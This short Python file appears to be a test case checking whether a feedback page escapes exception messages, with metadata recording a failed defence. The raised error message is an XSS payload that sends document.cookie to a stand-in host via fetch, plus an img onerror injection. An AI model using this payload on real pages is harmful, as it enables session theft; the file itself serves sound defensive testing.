"""Has a script put into the feedback page, through the words of an exception.

number = 57
defence = "all text is escaped, and the page allows no script"
outcome = {center = "failed"}
by = "tests/test_reports.py"

[control]
prize = "text"
shows = "<script>fetch"
"""

raise ValueError("</pre><script>fetch('https://example.org/?' + document.cookie)</script><img src=x onerror=alert(1)>")
